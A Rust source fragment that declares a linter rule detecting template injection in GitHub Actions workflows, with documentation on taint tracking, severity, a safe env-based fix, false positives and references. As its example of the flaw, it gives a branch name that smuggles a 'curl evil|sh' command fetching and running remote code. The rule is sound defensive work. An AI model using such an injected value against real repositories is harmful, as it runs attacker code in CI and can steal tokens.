//! CI002 template-injection: raised by `assay scan` on workflows and actions (crate `assay_ci`), which holds
//! its must-match and must-not-match fixtures.

declare_rule! {
    /// ## What it does
    /// Finds `${{ … }}` expressions in `run:` scripts and in `actions/github-script` `script:` whose value can carry text that someone outside the repository writes: pull request titles, bodies and branch names (`github.head_ref`, `github.event.pull_request.head.ref`), issue, comment, review and discussion text, commit messages and author names, `workflow_run` head branches and commit messages. Taint is followed through `format`, `join`, `toJSON`, `fromJSON`, `&&`/`||`, through `matrix.*` built from an expression and through `env.*` set from one; comparisons and `contains`/`startsWith` yield booleans and carry nothing. Severity: high on a privileged trigger (`pull_request_target`, `issues`, `issue_comment`, `workflow_run`, discussions), medium on others and in composite actions, low for caller-controlled values (`inputs.*`, `client_payload`).
    ///
    /// ## Why it matters
    /// GitHub substitutes the expression into the script text before the shell runs it, so a branch named `a";curl${IFS}evil|sh;#` is shell code. In Ultralytics (2024) a branch name in a `pull_request_target` workflow was the way in; in nx "s1ngularity" (2025) a PR title leaked the npm token.
    ///
    /// ## Example
    /// `run: echo "${{ github.event.pull_request.title }}"` in a `pull_request_target` workflow. Safe form: `env: TITLE: ${{ github.event.pull_request.title }}` and `run: echo "$TITLE"`.
    ///
    /// ## False positives
    /// Values that are outsider-writable in general but constrained in practice (a label name chosen from the repository's labels). Step outputs (`steps.*.outputs`) and job outputs are not followed, so injections through them are missed rather than over-reported.
    ///
    /// ## References
    /// - GitHub Docs, "Security hardening for GitHub Actions: understanding the risk of script injections"
    /// - GitHub Docs, "Evaluate expressions in workflows and actions"
    /// - Ultralytics incident write-up (December 2024); nx "s1ngularity" advisory GHSA-cxm3-wv7p-598c (2025)
    pub static META = TemplateInjection;
}
